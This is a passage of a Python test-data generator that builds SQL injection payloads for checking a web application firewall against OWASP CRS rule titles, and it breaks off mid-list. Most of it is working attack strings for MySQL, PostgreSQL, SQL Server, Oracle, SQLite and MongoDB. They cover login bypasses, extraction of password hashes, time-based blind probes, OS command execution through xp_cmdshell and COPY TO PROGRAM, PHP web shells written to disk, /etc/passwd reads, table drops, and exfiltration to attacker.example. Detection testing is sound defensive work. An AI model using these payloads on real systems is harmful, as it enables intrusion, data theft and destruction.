"""Blind SQL injection set "fortyseventh": a database engineer's payloads, one sub-family per detection title of
the CRS 3.3.4 SQL injection request rules at paranoia levels 1 and 2 (942100 ... 942510), plus four titles that
CRS 4.x added (JSON-based SQL injection, MySQL scientific notation, authentication bypass by a split query,
authentication bypass 4/4).

The angle: every payload is a valid, working injection on a named engine -- MySQL/MariaDB, PostgreSQL, Microsoft
SQL Server, Oracle or SQLite (MongoDB for the one title that names it) -- written for the injection context it
needs: after a closed single-quoted string, after a double-quoted string, after a number, inside a parenthesis,
in ORDER BY / LIMIT, inside a LIKE pattern, or in a stored-procedure call. Each uses its engine's own syntax:
comment styles (``-- ``, ``#``, ``/* */``, MySQL ``/*! */`` and MariaDB ``/*M! */``), string concatenation
(``||``, ``+``, CONCAT), casts (``::``, CAST, CONVERT), time functions (SLEEP, BENCHMARK, pg_sleep, WAITFOR,
DBMS_PIPE.RECEIVE_MESSAGE, RANDOMBLOB), error functions, system tables, conditional expressions (IF, IIF,
CASE, DECODE, ELT) and stacked-query rules (PostgreSQL, SQL Server and SQLite stack; Oracle needs a PL/SQL block).

Families and sub-families: category "sqli" only; ``sub`` is the kebab-case of its title (shortened; the six titles
that read just "SQL Injection Attack" carry their rule id), 8 to 14 payloads each (the split-query title: 10
pairs of fields).

Placements: each payload is sent twice.
  * Once into one of our real routes, rotating: query of /api/users, form of /admin/users/search (with
    csrf_token), JSON of /api/users, cookie, User-Agent, Referer, another header (X-Search-Filter), a parameter
    name, an XML body, a multipart field, a multipart filename, and the URL path (/api/users/<payload>).
  * Once the way a WAF's regression suite sends it ("rs-" placements): to a path that is not our route
    (/, /index.php, /get, /post, /search, /api/v1/items) under an arbitrary parameter name (foo, var, x, test, id,
    arg1) as a query string, a form body, a JSON body, an XML body, or in the User-Agent, the Referer, a custom
    header (X-Filter) or a cookie.
  MongoDB operator documents go into JSON bodies as real objects; bracketed operators ("[$ne]=1") ride on a
  parameter name.

Benign half: the same words as people type them -- Slack messages and bios of developers and analysts talking
about queries, sleep, benchmarks, unions, merges and backticks (chat_and_bio), site searches, admin-panel notes,
names and addresses with apostrophes, documentation links, ordinary browser headers and cookies, XML and
multipart profile uploads.

Authorship and independence: written from general knowledge of the five engines and from the rule titles alone;
no ruleset, rule regression test, payload list or other author's set was read. Measured once, on unchanged code,
with no payload changed after the measurement. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio
from .records import numbered, print_records

NAME = "fortyseventh"

# --------------------------------------------------------------------------------------------------------------
# Attack payloads, by title. Engines in the comments: my = MySQL/MariaDB, pg = PostgreSQL, ms = SQL Server,
# ora = Oracle, lite = SQLite, mongo = MongoDB.
# --------------------------------------------------------------------------------------------------------------

TITLES: dict[str, tuple[str, list[str]]] = {
    "942100": ("sqli-detected-via-libinjection", [
        "1' AND 1=1 UNION SELECT user(),version()#",                                     # my, quoted
        "1; SELECT pg_sleep(5)--",                                                       # pg, numeric stacked
        "1'; EXEC xp_cmdshell 'whoami'--",                                               # ms, stacked
        "' UNION SELECT banner,NULL FROM v$version--",                                   # ora
        "' UNION SELECT name,sql FROM sqlite_master--",                                  # lite
        "1 AND 1=2 UNION SELECT 1,2,3",                                                  # numeric
        "admin\" OR \"1\"=\"1\" -- ",                                                    # my, double-quoted
        "1) OR (1=1",                                                                    # parenthesis
        "%' AND 1=1 AND '%'='",                                                          # LIKE pattern
        "-1' OR 1=1 LIMIT 1#",                                                           # my
        "1,(SELECT 1 FROM dual WHERE 1=1)",                                              # ORDER BY, ora/my
        "x' AND CAST(version() AS int)=1--",                                             # pg, cast error
    ]),
    "942140": ("common-db-names-detected", [
        "' UNION SELECT table_name,NULL FROM information_schema.tables-- -",             # my
        "1 UNION SELECT user,authentication_string FROM mysql.user#",                    # my 5.7+
        "' UNION SELECT datname,NULL FROM pg_database--",                                # pg
        "1 UNION SELECT usename,passwd FROM pg_shadow--",                                # pg
        "' AND (SELECT COUNT(*) FROM pg_catalog.pg_tables)>0--",                         # pg
        "' UNION SELECT name,NULL FROM master..sysdatabases--",                          # ms
        "1 AND EXISTS(SELECT * FROM sysobjects WHERE xtype='U')",                        # ms
        "1 UNION SELECT name,NULL FROM sys.objects WHERE type='U'--",                    # ms
        "' UNION SELECT table_name,NULL FROM all_tables--",                              # ora
        "' UNION SELECT username,NULL FROM dba_users--",                                 # ora
        "' UNION SELECT name,sql FROM sqlite_master WHERE type='table'--",               # lite
        "1 UNION SELECT name,1 FROM msysobjects",                                        # access
        "') UNION SELECT schema_name FROM information_schema.schemata#",                 # my, paren
    ]),
    "942160": ("blind-sqli-sleep-or-benchmark", [
        "1 AND SLEEP(5)",                                                                # my numeric
        "' AND SLEEP(5)-- -",                                                            # my quoted
        "1' AND (SELECT * FROM (SELECT SLEEP(5))a)-- -",                                 # my derived table
        "' OR BENCHMARK(5000000,MD5(1))#",                                               # my
        "1 OR benchmark(10000000,sha1('x'))",                                            # my
        "\"+sleep(5)+\"",                                                                # my double-quoted
        "1) AND SLEEP(3) AND (1=1",                                                      # my paren
        "(SELECT SLEEP(5))",                                                             # my ORDER BY
        "' XOR SLEEP(5) XOR '",                                                          # my
        "1 AND sleep (5)",                                                               # mariadb, space
        "';SELECT SLEEP(5);-- ",                                                         # my multi-statement
        "%' AND SLEEP(5) AND '%'='",                                                     # my LIKE
        "1 LIMIT 1 PROCEDURE ANALYSE((SELECT SLEEP(5)),1)",                              # my 5.x LIMIT
    ]),
    "942170": ("sqli-benchmark-sleep-conditional", [
        "1 AND IF(SUBSTRING(version(),1,1)='5',SLEEP(5),0)",                             # my
        "' AND IF(1=1,BENCHMARK(3000000,MD5('a')),0)-- -",                               # my
        "1 OR (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)",                        # my
        "' UNION SELECT IF(1,SLEEP(5),0)-- -",                                           # my
        "1' and if(length(database())>3,sleep(5),0) and '1'='1",                         # my
        "IF((SELECT 1)=1,SLEEP(4),1)",                                                   # my ORDER BY
        "1;SELECT CASE WHEN (username='admin') THEN pg_sleep(5) ELSE pg_sleep(0) END FROM users--",  # pg
        "'; IF (1=1) WAITFOR DELAY '0:0:5'--",                                           # ms
        "' AND 1=(CASE WHEN 1=1 THEN DBMS_PIPE.RECEIVE_MESSAGE('a',5) ELSE 1 END)--",    # ora
        "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",                 # lite heavy query
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x WHERE 1=1)",                            # my
        "\" AND IF(ASCII(SUBSTR(user(),1,1))>64,SLEEP(3),1)-- ",                         # my double-quoted
    ]),
    "942190": ("mssql-code-execution-information-gathering", [
        "'; EXEC master..xp_cmdshell 'ping 203.0.113.5'--",
        "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE--",
        "'; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--",
        "' UNION SELECT @@version,NULL--",
        "1 UNION ALL SELECT name,NULL FROM master.dbo.sysdatabases--",
        "'; exec xp_dirtree '\\\\attacker.example\\share'--",
        "'; DECLARE @q varchar(99); SET @q='\\\\attacker.example\\x'; EXEC master.dbo.xp_fileexist @q--",
        "1 AND 1=CONVERT(int,@@version)",
        "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
        "'; DECLARE @o INT; EXEC sp_oacreate 'wscript.shell',@o OUT--",
        "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=attacker.example;uid=sa;pwd=x','select 1')--",
        "1;exec('sel'+'ect 1')--",
        "' UNION SELECT DB_NAME(),SYSTEM_USER--",
        "'; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName'--",
    ]),
    "942220": ("integer-overflow-skipfish-magic-number", [
        "2147483648",                                                                    # int32 + 1
        "-2147483649",
        "4294967296",                                                                    # uint32 + 1
        "9223372036854775808",                                                           # bigint + 1
        "18446744073709551616",                                                          # ubigint + 1
        "2.2250738585072011e-308",                                                       # the magic double
        "3.0.00738585072007e-308",
        "1 AND exp(~(SELECT * FROM (SELECT user())x))",                                  # my double overflow error
        "1 AND (SELECT 2*IF((SELECT * FROM (SELECT CONCAT(0x71,user(),0x71))s),8446744073709551610,"
        "8446744073709551610))",                                                         # my bigint overflow
        "1 AND 2147483647+1=0",                                                          # ms arithmetic overflow
        "1 AND 2147483647::int+1>0",                                                     # pg integer out of range
        "1 LIMIT 18446744073709551615",                                                  # my LIMIT
        "0x7fffffffffffffff+1",                                                          # my hex
    ]),
    "942230": ("conditional-sqli-attempts", [
        "' AND CASE WHEN 1=1 THEN 1 ELSE 0 END=1-- ",                                    # generic
        "1 AND (CASE WHEN (SELECT SUBSTRING(@@version,1,1))='8' THEN 1 ELSE 1/0 END)=1",  # my
        "1 AND (CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)=1",                        # pg division error
        "1 AND IIF(1=1,1,0)=1",                                                          # ms 2012+
        "'; IF (SELECT COUNT(*) FROM users)>0 SELECT 1 ELSE SELECT 1/0--",               # ms
        "' AND DECODE(SUBSTR(user,1,1),'S',1,0)=1--",                                    # ora
        "' AND (SELECT CASE WHEN 1=1 THEN TO_CHAR(1/0) ELSE NULL END FROM dual) IS NULL--",  # ora
        "' AND (SELECT CASE WHEN substr(sqlite_version(),1,1)='3' THEN 1 ELSE 0 END)=1--",  # lite
        "1 AND IF(1=1,1,(SELECT 1 UNION SELECT 2))",                                     # my subquery error
        "(CASE WHEN (SELECT 1)=1 THEN name ELSE email END)",                             # ORDER BY
        "1 AND ELT(1=1,1)",                                                              # my
        "' OR IF(ASCII(MID(user(),1,1))=114,1,0)#",                                      # my
    ]),
    "942240": ("mysql-charset-switch-mssql-dos", [
        "'; ALTER TABLE users CONVERT TO CHARACTER SET latin1;-- ",                      # my
        "'; ALTER DATABASE app CHARACTER SET gbk;-- ",                                   # my
        "1'; ALTER TABLE users MODIFY name VARCHAR(20) CHARACTER SET utf8mb4;-- ",      # my
        "1 UNION SELECT CONVERT(user() USING latin1)#",                                  # my
        "'; SET NAMES gbk;-- ",                                                          # my
        "'; WAITFOR DELAY '0:0:10'--",                                                   # ms
        "'; WAITFOR TIME '23:59:59'--",                                                  # ms
        "\"; waitfor delay '00:00:05'--",                                                # ms double-quoted
        "1;WAITFOR DELAY '0:0:5'--",                                                     # ms numeric
        "');WAITFOR DELAY '0:0:5'--",                                                    # ms paren
        "'; ALTER DATABASE CURRENT SET SINGLE_USER WITH ROLLBACK IMMEDIATE--",           # ms DoS
        "'; WHILE 1=1 BEGIN SELECT 1 END--",                                             # ms DoS loop
    ]),
    "942250": ("match-against-merge-execute-immediate", [
        "' AND MATCH(title) AGAINST ('+admin' IN BOOLEAN MODE)#",                        # my
        "1 UNION SELECT body FROM posts WHERE MATCH(body) AGAINST('secret')-- -",        # my
        "1 AND MATCH(a,b) AGAINST('x' WITH QUERY EXPANSION)",                            # my
        "'; MERGE INTO users u USING (SELECT 1 id FROM dual) s ON (u.id=s.id) "
        "WHEN MATCHED THEN UPDATE SET u.role='admin'--",                                 # ora
        "'; MERGE users AS t USING (SELECT 1 AS id) AS s ON t.id=s.id WHEN MATCHED THEN UPDATE SET role='admin';--",
        "'; MERGE INTO accounts a USING (SELECT 1 AS id) s ON a.id=s.id WHEN MATCHED THEN DELETE;--",  # pg 15
        "'; BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;--",                       # ora
        "' || (SELECT 1 FROM dual) || ''; BEGIN EXECUTE IMMEDIATE 'DROP TABLE audit_log'; END;",  # ora
        "'; DO $$BEGIN EXECUTE 'DROP TABLE audit'; END$$;--",                            # pg plpgsql
        "'; SET @s='SELECT SLEEP(5)'; PREPARE st FROM @s; EXECUTE st;-- ",               # my prepared
        "'; EXECUTE('SELECT name FROM sys.databases')--",                                # ms
        "match (secret) against ('a*' in boolean mode)",                                 # my bare
    ]),
    "942270": ("basic-sqli-union-select-from", [
        "' UNION SELECT username,passwd FROM users--",
        "1 UNION ALL SELECT NULL,table_name FROM information_schema.tables#",            # my
        "-1 union select 1,group_concat(login,0x3a,pass),3 from admins-- -",             # my
        "' UNION SELECT NULL,string_agg(usename,',') FROM pg_user--",                    # pg
        "' UNION SELECT NULL,NULL FROM dual--",                                          # ora
        "' UNION SELECT TOP 1 name,NULL FROM sys.tables--",                              # ms
        "' UNION SELECT group_concat(name),NULL FROM sqlite_master--",                   # lite
        "\") UNION SELECT email,token FROM sessions-- ",                                 # double-quoted paren
        "1) UNION (SELECT 1,2 FROM dual)",                                               # paren
        "%' UNION SELECT card,cvv FROM payments WHERE '%'='",                            # LIKE
        "1 UNION DISTINCT SELECT secret FROM vault",                                     # numeric
        "' UNION SELECT owner||'.'||table_name,NULL FROM all_tables--",                  # ora concat
    ]),
    "942280": ("pg-sleep-waitfor-delay-shutdown", [
        "1; SELECT pg_sleep(10)--",                                                      # pg numeric
        "' || pg_sleep(5)--",                                                            # pg concat
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",                                           # pg
        "';SELECT pg_sleep(5);--",                                                       # pg quoted
        "\"; select pg_sleep(3); --",                                                    # pg double-quoted
        "1;SELECT pg_sleep_for('5 seconds')--",                                          # pg 9.4+
        "1) WAITFOR DELAY '00:00:07'--",                                                 # ms paren
        "'; SHUTDOWN--",                                                                 # ms
        "1; SHUTDOWN WITH NOWAIT;--",                                                    # ms
        "'; SHUTDOWN;-- ",                                                               # my 5.7.9+
        "'; SELECT pg_terminate_backend(pid) FROM pg_stat_activity;--",                  # pg
        "'||DBMS_LOCK.SLEEP(5)||'",                                                      # ora
    ]),
    "942290": ("basic-mongodb-sqli", [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "{\"$where\": \"sleep(5000)\"}",
        "{\"$regex\": \"^adm\"}",
        "{\"$where\": \"this.password.match(/^a/)\"}",
        "{\"$or\": [{}, {\"a\": \"a\"}]}",
        "{\"$nin\": []}",
        "{\"$exists\": true}",
        "'; return this.role == 'admin'; var x='",
        "' || '1'=='1",
        "[$ne]=1",
        "[$gt]=",
        "[$regex]=^adm",
        "[$where]=sleep(5000)",
    ]),
    "942320": ("mysql-pg-stored-procedure-function", [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",                 # my 5.x
        "' PROCEDURE ANALYSE()#",                                                        # my
        "'; CREATE PROCEDURE p() BEGIN SELECT * FROM mysql.user; END;-- ",               # my
        "'; CALL sys.ps_setup_enable_instrument('wait');-- ",                            # my
        "'; CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int AS '/tmp/lib.so','sys_exec' LANGUAGE C STRICT;--",
        "'; CREATE FUNCTION f() RETURNS void AS $$ BEGIN PERFORM pg_sleep(5); END $$ LANGUAGE plpgsql;--",
        "'; COPY (SELECT '') TO PROGRAM 'id';--",                                        # pg 9.3+
        "'; SELECT lo_import('/etc/passwd');--",                                         # pg
        "1; DO $$ BEGIN RAISE NOTICE '%', current_user; END $$;--",                      # pg
        "'; SELECT dblink_connect('host=attacker.example user=x');--",                   # pg
        "'; CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE PROCEDURE f();--",  # pg
        "' AND 1=(SELECT 1 FROM pg_proc WHERE proname='pg_read_file')--",                # pg
        "'; SELECT pg_read_file('/etc/passwd',0,200);--",                                # pg
    ]),
    "942350": ("mysql-udf-data-structure-manipulation", [
        "'; CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so';-- ",  # my UDF
        "1; SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'-- ",            # my UDF drop
        "'; DROP TABLE users;-- ",
        "1; DELETE FROM sessions WHERE 1=1-- ",
        "'; UPDATE users SET role='admin' WHERE name='bob';-- ",
        "'; INSERT INTO users(name,role) VALUES ('eve','admin');-- ",
        "'; ALTER TABLE users ADD COLUMN backdoor VARCHAR(64);-- ",
        "'; TRUNCATE TABLE audit_log;-- ",
        "'; RENAME TABLE users TO users_old;-- ",                                        # my
        "'; GRANT DBA TO scott--",                                                       # ora
        "'; CREATE LOGIN eve WITH PASSWORD='Winter2024!';--",                            # ms
        "'; ATTACH DATABASE '/var/www/x.php' AS x; CREATE TABLE x.p (d text); "
        "INSERT INTO x.p VALUES ('<?php system($_GET[0]); ?>');--",                      # lite
        "'; DROP SCHEMA public CASCADE;--",                                              # pg
    ]),
    "942360": ("concatenated-sqli-and-sqllfi", [
        "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL#",                                 # my
        "1 UNION SELECT load_file(0x2f6574632f706173737764)",                            # my hex path
        "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'#",  # my
        "1 UNION SELECT * FROM users INTO DUMPFILE '/tmp/u'",                            # my
        "'; COPY users TO '/tmp/users.csv';--",                                          # pg
        "' UNION SELECT pg_read_file('/etc/passwd'),NULL--",                             # pg
        "'; BULK INSERT tmp FROM 'c:\\windows\\win.ini';--",                             # ms
        "' UNION SELECT BulkColumn,NULL FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) AS x--",  # ms
        "' || (SELECT UTL_HTTP.REQUEST('http://attacker.example/'||user) FROM dual) || '",  # ora
        "' || (SELECT user FROM dual) || '",                                             # ora concat
        "'||(SELECT sqlite_version())||'",                                               # lite concat
        "'+(SELECT TOP 1 name FROM sysobjects)+'",                                       # ms concat
        "'; SELECT readfile('/etc/passwd');--",                                          # lite fileio
    ]),
    "942500": ("mysql-inline-comment", [
        "1 /*!UNION*/ /*!SELECT*/ user()",
        "'/*!50000UNION*//*!50000SELECT*/1,2-- -",
        "1/*!12345AND*/1=1",
        "' /*!OR*/ 1=1#",
        "1 /*!50000order by*/ 3",
        "/*!SLEEP(5)*/",
        "'/*!30000AND*/SLEEP(5)-- -",
        "1 UNION /*!32302SELECT*/ @@version",
        "-1'/*!UNION*/SELECT/*!*/password/*!FROM*/users#",
        "1/*!00000AND 2>1*/",
        "1 /*M!100100 AND SLEEP(5)*/",                                                   # mariadb
        "\"/*!OR*/\"a\"=\"a",                                                            # double-quoted
    ]),
    "942110": ("common-injection-testing", [
        "'",
        "\"",
        "1'",
        "admin'",
        "'--",
        "'#",
        "';--",
        "`",
        "1\"",
        "x';",
        "'||'",                                                                          # ora/pg/lite concat probe
        "'::text",                                                                       # pg cast probe
        "')",
    ]),
    "942120": ("sql-operator-detected", [
        "' OR name REGEXP '^a'#",                                                        # my
        "1 AND user() RLIKE '^root'",                                                    # my
        "' OR 'a' SOUNDS LIKE 'a'#",                                                     # my
        "1 OR 1<=>1",                                                                    # my null-safe
        "1 XOR 1",                                                                       # my
        "' OR current_user ~ '^post'--",                                                 # pg regex
        "' OR 'x' ILIKE 'X'--",                                                          # pg
        "' OR 'ab' SIMILAR TO 'a%'--",                                                   # pg
        "1 AND 2 !< 1",                                                                  # ms
        "' OR name GLOB 'a*'--",                                                         # lite
        "' OR REGEXP_LIKE(user,'^S')--",                                                 # ora
        "1 div 1",                                                                       # my
        "' OR 1 NOT IN (2)-- ",
    ]),
    "942130": ("sql-tautology", [
        "' OR 'a'='a",
        "' OR 1=1-- ",
        "1 OR 2>1",
        "\" OR \"x\"=\"x",
        "') OR ('1'='1",
        "1 AND 7=7",
        "admin' OR 'abc'='abc'#",                                                        # my
        "' OR 0x41=0x41-- ",                                                             # my
        "1 OR 'a'<>'b'",
        "' OR N'a'=N'a'--",                                                              # ms
        "' OR true=true--",                                                              # pg
        "' OR 1=1 AND ROWNUM=1--",                                                       # ora
        "' OR 'x' IS 'x'--",                                                             # lite
    ]),
    "942150": ("sqli-function-names", [
        "1 AND ASCII(SUBSTRING(user(),1,1))>64",                                         # my
        "' AND LENGTH(database())=6-- -",                                                # my
        "1 AND ORD(MID(version(),1,1))=53",                                              # my
        "' AND CHAR_LENGTH(schema())>1#",                                                # my
        "' AND current_setting('server_version') LIKE '1%'--",                           # pg
        "' AND chr(65)||chr(66)='AB'--",                                                 # pg
        "' AND UNICODE(SUBSTRING(SYSTEM_USER,1,1))>64--",                                # ms
        "1 AND CHARINDEX('a',DB_NAME())>0",                                              # ms
        "' AND LENGTH(SYS_CONTEXT('USERENV','CURRENT_USER'))>0--",                       # ora
        "' AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE ROWNUM=1),1,1))>0--",    # ora
        "' AND unicode(substr(sqlite_version(),1,1))=51--",                              # lite
        "1 AND HEX(user())<>''",                                                         # my
        "1 AND GREATEST(1,2)=2",                                                         # my/pg/ora
    ]),
    "942180": ("basic-auth-bypass-1-3", [
        "admin'--",
        "admin' #",
        "admin'/*",
        "' or ''='",
        "'='",
        "'or'1'='1",
        "\" or \"\"=\"",
        "' OR 1=1 LIMIT 1-- -",                                                          # my/pg/lite
        "admin') --",
        "x' or 1=1 or 'x'='y",
        "1' or '1'='1'-- ",
        "') or ('x')=('x",
        "' OR 1=1 AND ROWNUM<2--",                                                       # ora
    ]),
    "942200": ("mysql-comment-space-obfuscation-backtick", [
        "1/**/UNION/**/SELECT/**/1,2",
        "'/**/OR/**/1=1#",
        "admin'/**/--",
        "`name` DESC, (SELECT SLEEP(5))#",                                               # my ORDER BY backtick
        "1\nUNION\nSELECT\n1,2",                                                         # newlines
        "'\tOR\t1=1#",                                                                   # tabs
        "1/*foo*/AND/*bar*/1=1",
        "1 #foo\nUNION #bar\nSELECT 1,2",                                                # hash comment + newline
        "1 -- x\nOR 1=1",                                                                # dash comment + newline
        "users` WHERE 1=1 UNION SELECT 1#",                                              # backtick termination
        "id`=1 OR `id`>0#",
        "1%0aUNION%0aSELECT%0a1",                                                        # already-encoded newlines
    ]),
    "942210": ("chained-sqli-1-2", [
        "1; SELECT * FROM users--",
        "'; SELECT @@version;-- ",                                                       # my/ms
        "1 && 1=1",                                                                      # my
        "' || 1=1#",                                                                     # my || as OR
        "'; INSERT INTO logs VALUES('x');--",
        "1;select version()",                                                            # pg/my
        "' AND 1=1; SELECT current_user;--",                                             # pg
        "1); DROP TABLE sessions;--",
        "'; SELECT name FROM sys.sql_logins;--",                                         # ms
        "' AND 1=(SELECT 1 FROM dual) AND 'a'='a",                                       # ora
        "'; SELECT sqlite_version();--",                                                 # lite
        "1 && (SELECT 1)=1",                                                             # my
        "1 || user() LIKE 'root%'",                                                      # my
    ]),
    "942260": ("basic-auth-bypass-2-3", [
        "admin' AND 1=1 --",
        "' or 1 = 1 --",
        "anything' OR 'x'='x",
        "') or true--",                                                                  # pg/my
        "' or true#",                                                                    # my
        "' or 1#",                                                                       # my
        "'||1#",                                                                         # my
        "\" or true--",
        "' OR 'a' LIKE 'a'--",
        "admin' or '1'='1'/*",
        "x' AND userid IS NULL; --",
        "' OR username IS NOT NULL OR username = '",
    ]),
    "942300": ("mysql-comments-conditions-char", [
        "1 AND CHAR(97,100,109,105,110)='admin'",                                        # my
        "' UNION SELECT CHAR(60,63,112,104,112)#",                                       # my
        "' || CHR(65) || '",                                                             # pg/ora
        "' AND CHR(83)||CHR(89)||CHR(83)=user--",                                        # ora
        "'+CHAR(0x41)+'",                                                                # ms
        "' AND NCHAR(65)='A'--",                                                         # ms
        "' AND char(65)='A'--",                                                          # lite
        "1) OR (1=1)#",                                                                  # my
        "1 AND (1=1)#",                                                                  # my
        "' AND (SELECT 1)=1#",                                                           # my
        "admin')#",                                                                      # my
        "1 /*!AND*/ (2>1)#",                                                             # my
    ]),
    "942310": ("chained-sqli-2-2", [
        "'; SHOW TABLES;-- ",                                                            # my
        "1; SHOW DATABASES#",                                                            # my
        "'); SELECT 1;-- ",
        "' ; begin declare @x varchar(8000) select @x = name from sys.databases end --",  # ms
        "'; BEGIN; DELETE FROM users; COMMIT;--",                                        # pg
        "1;DESC users",                                                                  # my
        "\"; EXEC sp_who;--",                                                            # ms
        "' AND 1=1; WAITFOR DELAY '0:0:1'--",                                            # ms
        "1;SET @a=1;SELECT @a",                                                          # my
        "'; PRAGMA table_info(users);--",                                                # lite
        "'; BEGIN DBMS_OUTPUT.PUT_LINE(user); END;--",                                   # ora block
        "1; HANDLER users OPEN;--",                                                      # my
        "';LOCK TABLES users WRITE;-- ",                                                 # my
    ]),
    "942330": ("classic-sqli-probings-1-3", [
        "' or 1 --",
        "\" or 1 #",
        "' and 'a'='a",
        "1' and '1'='2",
        "x' AND 1=0 UNION ALL SELECT 1--",
        "' or ''-'",
        "' or '' '",
        "' or ''&'",
        "' or ''^'",
        "' or ''*'",
        "\" or \"\"-\"",
        "1 or 1",
        "' or 1 in (1)--",
    ]),
    "942340": ("basic-auth-bypass-3-3", [
        "' OR 1 IN (1)--",
        "' or 1 in (select 1)--",
        "') or 1=1 limit 1#",                                                            # my
        "' OR 'a' BETWEEN 'a' AND 'z",
        "'or'1'",
        "' is not null or '",
        "1' or user_id is not null--",
        "\"=\"\"or\"\"=\"",
        "' like '%",
        "' or 2 between 1 and 3 --",
        "' OR EXISTS(SELECT 1)--",                                                       # pg/my/lite
        "' OR EXISTS(SELECT 1 FROM dual)--",                                             # ora
    ]),
    "942361": ("basic-sqli-alter-or-union", [
        "UNION SELECT 1,2,3",
        "union all select null,null",
        "alter user postgres with superuser",                                            # pg
        "ALTER LOGIN sa ENABLE",                                                         # ms
        "' union select 1#",
        ") UNION SELECT @@version--",
        "ALTER SYSTEM SET audit_trail=NONE SCOPE=SPFILE",                                # ora
        "alter table users drop column email",
        "UNION(SELECT(1),(2))",                                                          # my, no spaces
        "union/**/select/**/1",
        "-1 UNION SELECT sqlite_version()",                                              # lite
        "1 UNION SELECT banner FROM v$version",                                          # ora
    ]),
    "942370": ("classic-sqli-probings-2-3", [
        "' AND '1",
        "1 AND 1 --",
        "' AND 'x'<'y",
        "'OR'1",
        "\" AND \"1\"=\"1",
        "' AND (1)--",
        "1' AND 2>1#",
        "\" OR 1>0 --",
        "1' AND 'a'!='b",
        "' && 1 -- -",                                                                   # my
        "' || 'a'='a",                                                                   # my OR / pg concat
        "') AND ('a'='a",
    ]),
    "942380": ("sql-injection-attack-942380", [
        "1 ORDER BY 10-- -",
        "1' GROUP BY 1,2,3#",
        "' HAVING 1=1--",                                                                # ms error leak
        "' GROUP BY users.id HAVING 1=1--",                                              # ms column enum
        "1 AND EXISTS(SELECT * FROM users)",
        "'; SELECT TOP 1 name FROM sysobjects--",                                        # ms
        "1; DROP TABLE users",
        "' AND 1 IN (SELECT 1)--",
        "1 LIMIT 1,1",                                                                   # my
        "' INTO OUTFILE '/tmp/x'#",                                                      # my
        "1 ORDER BY (SELECT NULL)",                                                      # ms
        "' AND ROWNUM=1--",                                                              # ora
        "1 LIMIT 1 OFFSET 1--",                                                          # pg/lite
    ]),
    "942390": ("sql-injection-attack-942390", [
        "1 OR 1 = 1",
        "' OR 'x' = 'x'",
        "1 XOR 0",
        "' AND 2 > 1 --",
        "1 OR 'a' LIKE 'a'",
        "1 AND 3 <> 4",
        "' OR 1 IS NOT NULL--",
        "1 and 0x61=0x61",                                                               # my
        "1 OR EXISTS(SELECT 1)",
        "' OR NOT 1=2--",
        "1 || 1 = 1",                                                                    # my
        "1 && 2 >= 1",                                                                   # my
    ]),
    "942400": ("sql-injection-attack-942400", [
        "x' AND 'x'='x",
        "1 AND '1'='1'",
        "' and 'abc' = 'abc",
        "1 or 'a'",
        "' OR 'z'",
        "\" AND \"b\"=\"b",
        "1 AND 'one'='one'",
        "' AND 'p' IN ('p')--",
        "1 OR '1'",
        "' AND ''='",
        "a' OR 'b'>'a",
        "1 OR N'x'=N'x'",                                                                # ms
    ]),
    "942410": ("sql-injection-attack-942410", [
        "1 AND ABS(1)=1",
        "' AND COALESCE(NULL,user())<>''#",                                              # my
        "1 AND CONCAT_WS(':',user(),database()) IS NOT NULL",                            # my
        "' AND BIN(5)='101'#",                                                           # my
        "1 AND CONV(10,10,2)=1010",                                                      # my
        "' AND md5('a')<>''--",                                                          # pg
        "' AND pg_backend_pid()>0--",                                                    # pg
        "' AND DATALENGTH(DB_NAME())>0--",                                               # ms
        "1 AND ISNULL(NULL,1)=1",                                                        # ms
        "' AND NVL(NULL,1)=1--",                                                         # ora
        "' AND INSTR(user,'S')>0--",                                                     # ora
        "' AND typeof(1)='integer'--",                                                   # lite
        "' AND randomblob(4) IS NOT NULL--",                                             # lite
        "1 AND FLOOR(RAND(0)*2)=0",                                                      # my
    ]),
    "942470": ("sql-injection-attack-942470", [
        "'; EXEC xp_cmdshell 'dir'--",
        "'; EXEC master..xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\x','v','REG_SZ','1'--",
        "'; exec sp_addlogin 'eve','pw'--",
        "'; EXEC sp_addsrvrolemember 'eve','sysadmin'--",
        "'; EXEC xp_servicecontrol 'start','schedule'--",
        "'; EXEC xp_availablemedia--",
        "' || UTL_HTTP.REQUEST('http://attacker.example/'||user) || '",                  # ora
        "' AND DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/id') IS NOT NULL--",  # ora
        "' AND UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.attacker.example') IS NOT NULL--",  # ora
        "'; EXEC sp_makewebtask '\\\\attacker.example\\x.html','SELECT * FROM users'--",
        "'; SELECT * FROM sysfilegroups--",
        "'; EXEC sp_password NULL,'x','sa'--",
        "'; EXEC xp_terminate_process 1234--",
    ]),
    "942480": ("sql-injection-attack-942480", [
        "'; DELETE FROM users--",
        "1 UNION SELECT a.x FROM t a INNER JOIN u b ON 1=1",
        "' INTERSECT SELECT name FROM users--",
